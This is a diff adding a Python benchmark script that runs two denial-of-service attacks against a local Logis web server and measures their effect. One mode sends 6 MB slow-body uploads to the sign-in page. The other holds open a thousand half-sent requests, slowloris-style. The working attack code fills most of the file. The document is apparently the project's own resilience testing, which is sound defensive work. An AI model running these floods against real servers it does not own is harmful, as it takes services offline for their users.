@@ -1,0 +1,168 @@
+#!/usr/bin/env python3
+"""Anonymous denial-of-service attacks against a running Logis, measured from outside.
+
+    python3 Benchmarks/attacks/dos.py slow-body  --pid PID [--url http://127.0.0.1:8080] [--clients 150]
+    python3 Benchmarks/attacks/dos.py idle       --pid PID [--url ...] [--sockets 1000]
+
+slow-body: each client posts a 6 MB multipart body to the sign-in page with a made-up CSRF
+cookie (no account), as fast as the socket takes it. idle: each socket sends half a request
+head and then nothing. Both sample `/healthz` every half second during the attack and read the
+server's resident memory from /proc; they print one JSON line with the figures.
+"""
+
+import argparse
+import asyncio
+import json
+import os
+import statistics
+import time
+from urllib.parse import urlparse
+
+BODY_SIZE = 6_000_000
+
+
+def rss_mib(pid):
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) / 1024
+    return 0.0
+
+
+async def health_latency(host, port, timeout=10.0):
+    """Seconds to get a full /healthz answer on a new connection, or None on timeout/failure."""
+    started = time.monotonic()
+    try:
+        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
+        writer.write(f"GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        await writer.drain()
+        data = await asyncio.wait_for(reader.read(4096), timeout)
+        writer.close()
+        if not data.startswith(b"HTTP/1.1 200"):
+            return None
+        return time.monotonic() - started
+    except (OSError, asyncio.TimeoutError):
+        return None
+
+
+async def sample(host, port, pid, stop, samples):
+    while not stop.is_set():
+        latency = await health_latency(host, port)
+        samples.append((latency, rss_mib(pid)))
+        await asyncio.sleep(0.5)
+
+
+async def slow_body_client(host, port, results):
+    boundary = "logisattack"
+    head = (
+        f"POST /connexion HTTP/1.1\r\nHost: {host}\r\n"
+        f"Cookie: logis_csrf={'A' * 43}\r\n"
+        f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
+        f"Content-Length: {BODY_SIZE}\r\n\r\n"
+    ).encode()
+    part = f"--{boundary}\r\nContent-Disposition: form-data; name=\"junk\"\r\n\r\n".encode()
+    chunk = b"x" * 65536
+    try:
+        reader, writer = await asyncio.open_connection(host, port)
+        writer.write(head + part)
+        sent = len(part)
+        status = None
+        while sent < BODY_SIZE:
+            size = min(len(chunk), BODY_SIZE - sent)
+            writer.write(chunk[:size])
+            sent += size
+            try:
+                await asyncio.wait_for(writer.drain(), 30)
+            except asyncio.TimeoutError:
+                break
+            if reader.at_eof():
+                break
+        try:
+            line = await asyncio.wait_for(reader.readline(), 60)
+            status = line.decode(errors="replace").strip()
+        except asyncio.TimeoutError:
+            status = "timeout"
+        writer.close()
+        results.append(status)
+    except OSError as error:
+        results.append(f"error {error.errno}")
+
+
+async def idle_socket(host, port, opened, hold):
+    """Half a request head, then silence; returns seconds until the server closed it (or None)."""
+    try:
+        reader, writer = await asyncio.open_connection(host, port)
+    except OSError:
+        return "refused"
+    opened.append(1)
+    writer.write(f"POST /connexion HTTP/1.1\r\nHost: {host}\r\n".encode())
+    await writer.drain()
+    started = time.monotonic()
+    try:
+        await asyncio.wait_for(reader.read(), hold)
+        return time.monotonic() - started
+    except asyncio.TimeoutError:
+        return None
+    except OSError:
+        return time.monotonic() - started
+    finally:
+        writer.close()
+
+
+def summarise(samples, started):
+    latencies = [latency for latency, _ in samples if latency is not None]
+    failures = sum(1 for latency, _ in samples if latency is None)
+    return {
+        "healthz_samples": len(samples),
+        "healthz_failed_or_over_10s": failures,
+        "healthz_median_ms": round(statistics.median(latencies) * 1000, 1) if latencies else None,
+        "healthz_max_ms": round(max(latencies) * 1000, 1) if latencies else None,
+        "rss_max_mib": round(max(rss for _, rss in samples), 1) if samples else None,
+        "seconds": round(time.monotonic() - started, 1),
+    }
+
+
+async def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("attack", choices=["slow-body", "idle"])
+    parser.add_argument("--url", default="http://127.0.0.1:8080")
+    parser.add_argument("--pid", type=int, required=True)
+    parser.add_argument("--clients", type=int, default=150)
+    parser.add_argument("--sockets", type=int, default=1000)
+    parser.add_argument("--hold", type=float, default=75.0)
+    args = parser.parse_args()
+    url = urlparse(args.url)
+    host, port = url.hostname, url.port or 80
+    rss_before = rss_mib(args.pid)
+    stop = asyncio.Event()
+    samples = []
+    sampler = asyncio.create_task(sample(host, port, args.pid, stop, samples))
+    started = time.monotonic()
+    report = {"attack": args.attack, "rss_before_mib": round(rss_before, 1)}
+    if args.attack == "slow-body":
+        results = []
+        await asyncio.gather(*(slow_body_client(host, port, results) for _ in range(args.clients)))
+        counts = {}
+        for status in results:
+            counts[status] = counts.get(status, 0) + 1
+        report["answers"] = counts
+    else:
+        opened = []
+        closes = await asyncio.gather(*(idle_socket(host, port, opened, args.hold) for _ in range(args.sockets)))
+        closed = [c for c in closes if isinstance(c, float)]
+        report["sockets_opened"] = len(opened)
+        report["sockets_refused"] = sum(1 for c in closes if c == "refused")
+        report["closed_by_server"] = len(closed)
+        report["still_open_after_hold_s"] = sum(1 for c in closes if c is None)
+        report["close_median_s"] = round(statistics.median(closed), 1) if closed else None
+        report["hold_s"] = args.hold
+    await asyncio.sleep(2)
+    stop.set()
+    await sampler
+    report.update(summarise(samples, started))
+    report["rss_after_mib"] = round(rss_mib(args.pid), 1)
+    print(json.dumps(report))
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
